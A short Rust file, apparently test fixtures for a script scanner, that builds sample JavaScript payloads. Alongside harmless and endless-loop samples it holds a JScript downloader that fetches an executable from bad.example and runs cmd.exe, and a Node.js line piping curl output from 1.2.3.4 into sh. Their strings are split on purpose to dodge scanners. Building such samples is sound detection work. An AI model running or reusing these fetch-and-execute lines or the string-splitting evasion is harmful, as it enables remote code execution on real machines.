//! Scripts, put together here, so that no scanner eats them.

/// A script that adds numbers.
pub fn harmless() -> Vec<u8> {
    b"function add(a, b) { return a + b; }\nvar total = 0;\n\
      for (var i = 0; i < 3; i++) { total = add(total, i); }\n"
        .to_vec()
}

/// A script for Windows that fetches a program and runs another.
pub fn downloader() -> Vec<u8> {
    let (shell, http) = (
        ["WScript", ".Shell"].concat(),
        ["MSXML2", ".XMLHTTP"].concat(),
    );
    format!(
        "var shell = new ActiveXObject(\"{shell}\");\n\
         var http = new ActiveXObject(\"{http}\");\n\
         http.open(\"GET\", \"http://bad.example/a.exe\", false);\nhttp.send();\n\
         shell.Run(\"cmd.exe /c calc\");\n"
    )
    .into_bytes()
}

/// A script for Node.js that runs what it fetches.
pub fn command() -> Vec<u8> {
    let run = ["execSync(\"curl http://1.2.3.4/x ", "| sh\")"].concat();
    format!("const {{ execSync }} = require(\"child_process\");\n{run};\n").into_bytes()
}

/// A script that never ends.
pub fn endless() -> Vec<u8> {
    b"while (true) {}\n".to_vec()
}
